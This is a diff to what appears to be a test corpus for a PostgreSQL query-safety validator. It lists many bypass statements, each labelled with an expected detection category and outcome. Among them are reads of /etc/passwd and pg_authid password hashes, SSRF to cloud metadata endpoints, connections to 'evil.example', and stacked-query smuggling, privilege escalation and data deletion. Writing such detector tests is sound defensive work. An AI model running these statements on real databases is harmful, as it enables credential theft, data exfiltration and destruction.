@@ -351,200 +351,200 @@ SELECT 1 FROM
 SELECT '\' || ' , lo_create(424259) --'
 --! function; alone runs
 SELECT E'\'', lo_create(424260) --'
---! statement
+--! statement; alone transaction
 COPY (WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d) TO STDOUT
---! statement
+--! statement; alone fails
 WITH m AS (MERGE INTO accounts a USING staging s ON a.id = s.id WHEN MATCHED THEN DELETE RETURNING a.id) SELECT * FROM m
---! statement
+--! statement; alone transaction
 WITH d AS MATERIALIZED (DELETE FROM accounts RETURNING *) SELECT * FROM d
---! statement
+--! statement; alone transaction
 WITH s AS (SELECT 1 AS id) DELETE FROM accounts USING s WHERE accounts.id = s.id
---! statement
+--! statement; alone fails
 VALUES (1), ((WITH d AS (DELETE FROM accounts RETURNING id) SELECT count(*) FROM d))
---! statement
+--! statement; alone runs
 EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1
---! statement
+--! statement; alone runs
 EXPLAIN ANALYZE REFRESH MATERIALIZED VIEW totals
---! statement
+--! statement; alone rights
 EXPLAIN (ANALYZE) SELECT * INTO loot FROM accounts
---! syntax
+--! syntax; alone fails
 EXPLAIN EXPLAIN SELECT 1
---! statement
+--! statement; alone runs
 COMMIT AND CHAIN
---! statement
+--! statement; alone lasts
 PREPARE TRANSACTION 'loot'
---! statement
+--! statement; alone runs
 SET SESSION AUTHORIZATION DEFAULT
---! statement
+--! statement; alone rights
 SET ROLE postgres
---! statement
+--! statement; alone transaction
 CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p
---! statement
+--! statement; alone transaction
 IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
---! statement
+--! statement; alone transaction
 ALTER TABLE accounts DISABLE ROW LEVEL SECURITY
---! statement
+--! statement; alone rights
 CLUSTER accounts
---! statement
+--! statement; alone transaction
 CREATE VIEW loot AS SELECT 1
---! statement
+--! statement; alone fails
 SELECT 1 FROM accounts, (SELECT 1 INTO loot) x
---! syntax
+--! syntax; alone fails
 SELECT 1 \; DELETE FROM accounts
---! syntax
+--! syntax; alone fails
 SELECT * FROM (DELETE FROM accounts RETURNING *) x
---! syntax
+--! syntax; alone fails
 SELECT 1 \gexec
---! multiple_statements
+--! multiple_statements; alone protocol
 SELECT 1 /* /* nested */ */; DELETE FROM accounts
---! multiple_statements
+--! multiple_statements; alone protocol
 SELECT $a$ $b$ ; $a$; DELETE FROM accounts -- $b$
---! multiple_statements
+--! multiple_statements; alone protocol
 SELECT 1;--
 DELETE FROM accounts
---! locking
+--! locking; alone transaction
 TABLE accounts FOR UPDATE
---! locking
+--! locking; alone transaction
 (SELECT * FROM accounts) FOR UPDATE
---! locking
+--! locking; alone transaction
 EXPLAIN ANALYZE SELECT * FROM accounts FOR SHARE
---! function
+--! function; alone rights
 SELECT TREAT('/etc/passwd' AS pg_read_file)
---! function
+--! function; alone runs
 SELECT TREAT(424265 AS lo_create)
---! function
+--! function; alone runs
 SELECT U&"set\005fconfig"('work_mem', '1MB', false)
---! function
+--! function; alone transaction
 SELECT set_config($$transaction_read_only$$, $$off$$, false)
---! function
+--! function; alone runs
 SELECT app.pg_catalog.lo_create(424266)
---! function
+--! function; alone runs
 SELECT pg_catalog."lo_create"(VARIADIC 424267)
---! function
+--! function; alone fails
 SELECT lo_create(loid => 424268)
---! function
+--! function; alone runs
 SELECT * FROM lo_create(424269)
---! function
+--! function; alone runs
 SELECT x FROM accounts, LATERAL lo_create(424270 + accounts.id) AS x
---! function
+--! function; alone fails
 SELECT * FROM accounts TABLESAMPLE BERNOULLI (lo_create(424271)::int)
---! function
+--! function; alone runs
 SELECT * FROM accounts TABLESAMPLE SYSTEM (1) REPEATABLE (lo_create(424272)::int)
---! function
+--! function; alone runs
 SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY lo_create(424273)::int)
---! function
+--! function; alone runs
 SELECT count(*) OVER (ROWS BETWEEN lo_create(424274)::int PRECEDING AND CURRENT ROW)
---! function
+--! function; alone fails
 SELECT * FROM accounts ORDER BY lo_create(424275) USING >
---! function
+--! function; alone runs
 SELECT 1 OFFSET lo_create(424276)
---! function
+--! function; alone runs
 SELECT DISTINCT ON (lo_create(424277)) 1
---! function
+--! function; alone runs
 SELECT 1 GROUP BY GROUPING SETS ((lo_create(424278)), ())
---! function
+--! function; alone runs
 SELECT lo_create(424279) IS NOT NULL AND true
---! function
+--! function; alone runs
 SELECT 1 WHERE 1 = ANY (ARRAY(SELECT lo_create(424280)::int))
---! function
+--! function; alone transaction
 SELECT row_to_json(x) FROM (SELECT nextval('accounts_id_seq')) x
---! function
+--! function; alone transaction
 SELECT ('accounts_id_seq'::regclass).nextval
---! function
+--! function; alone fails
 SELECT xmlparse(DOCUMENT lo_create(424281)::text)
---! function
+--! function; alone runs
 SELECT * FROM xmltable('/r' PASSING xmlelement(name r, lo_create(424282)) COLUMNS n int PATH '.' DEFAULT lo_create(424283)::int)
---! function
+--! function; alone fails
 SELECT * FROM json_table('[]', '$[*]' PASSING lo_create(424284) AS a COLUMNS (n int PATH '$'))
---! function
+--! function; alone fails
 SELECT json_value('{}', '$.a' DEFAULT lo_create(424285)::int ON EMPTY)
---! function
+--! function; alone runs
 EXPLAIN (ANALYZE, FORMAT JSON) SELECT pg_notify('c', 'p')
---! function
+--! function; alone rights
 SELECT pg_import_system_collations('pg_catalog'::regnamespace)
---! function
+--! function; alone fails
 SELECT brin_summarize_new_values('i'::regclass)
---! function
+--! function; alone fails
 SELECT brin_desummarize_range('i'::regclass, 0)
---! function
+--! function; alone rights
 SELECT pg_stat_reset_shared('bgwriter')
---! function
+--! function; alone rights
 SELECT pg_stat_reset_single_table_counters('accounts'::regclass)
---! function
+--! function; alone rights
 SELECT ('bgwriter'::text).pg_stat_reset_shared
---! function
+--! function; alone rights
 SELECT (true).pg_promote
---! function
+--! function; alone rights
 SELECT ('x'::name).pg_create_physical_replication_slot
---! function
+--! function; alone rights
 SELECT pg_replication_origin_session_setup('x')
---! function
+--! function; alone rights
 SELECT pg_backup_start('x')
---! function
+--! function; alone rights
 SELECT pg_wal_replay_pause()
---! function
+--! function; alone runs
 SELECT pg_database_size('app'), pg_advisory_unlock_all()
---! function
+--! function; alone transaction
 SELECT schema_to_xml('public', true, true, '')
---! function
+--! function; alone runs
 SELECT database_to_xmlschema(true, true, '')
---! function
+--! function; alone fails
 SELECT query_to_xml('DELETE FROM accounts', true, true, '')
---! function
+--! function; alone fails
 SELECT query_to_xml('SELECT * FROM accounts FOR UPDATE', true, true, '')
---! function
+--! function; alone rights
 SELECT query_to_xml('SELECT rolpassword FROM pg_authid', true, true, '')
---! function
+--! function; alone fails
 SELECT query_to_xmlschema('SELECT 1; SELECT 2', true, true, '')
---! function
+--! function; alone fails
 SELECT query_to_xml((SELECT 'DELETE FROM accounts'), true, true, '')
---! function
+--! function; alone fails
 SELECT query_to_xml($1, true, true, '')
---! function
+--! function; alone lasts
 SELECT autoprewarm_dump_now()
---! function
+--! function; alone runs
 SELECT autoprewarm_start_worker()
---! function
+--! function; alone runs
 SELECT set_limit(0.9)
---! function
+--! function; alone rights
 SELECT get_raw_page('pg_authid', 0)
---! function
+--! function; alone rights
 SELECT * FROM heap_page_items(get_raw_page('pg_authid', 0))
---! function
+--! function; alone rights
 SELECT * FROM pg_get_wal_records_info('0/1000000', '0/2000000')
---! function
+--! function; alone fails
 SELECT ('DELETE FROM accounts'::text).run_command_on_workers
---! function
+--! function; alone fails
 SELECT ('http://169.254.169.254/'::text).http_get
---! function
+--! function; alone fails
 SELECT r.http FROM json_populate_record(NULL::http_request, '{"method": "GET"}') r
---! function
+--! function; alone fails
 SELECT ('SELECT lo_create(424286)'::text).pgr_strongcomponents
---! function
+--! function; alone fails
 SELECT ('DELETE FROM accounts'::text).pg_background_launch
---! function
+--! function; alone fails
 SELECT oracle_execute('server', 'DROP TABLE accounts')
---! function
+--! function; alone fails
 SELECT set_user('postgres')
---! function
+--! function; alone fails
 SELECT * FROM duckdb.raw_query('COPY accounts TO ''/tmp/loot''')
---! function
+--! function; alone fails
 SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')
---! function
+--! function; alone fails
 SELECT clickhousedb_raw_query('INSERT INTO accounts VALUES (1)', 'host=evil.example')
---! relation
+--! relation; alone runs
 SELECT histogram_bounds FROM pg_stats WHERE tablename = 'pg_authid'
---! relation
+--! relation; alone rights
 SELECT stavalues1 FROM pg_statistic
---! relation
+--! relation; alone rights
 SELECT * FROM app.pg_catalog.pg_authid
---! relation
+--! relation; alone rights
 SELECT 1 FROM pg_class JOIN "pg_authid" a ON true
---! relation
+--! relation; alone rights
 SELECT pg_authid FROM pg_authid
---! relation
+--! relation; alone fails
 SELECT authinfo FROM pg_dist_authinfo
---! relation
+--! relation; alone rights
 SELECT chunk_data FROM pg_toast.pg_toast_2619
---! function
+--! function; alone rights
 SELECT ('0/1000000'::pg_lsn).pg_get_wal_records_info_till_end_of_wal
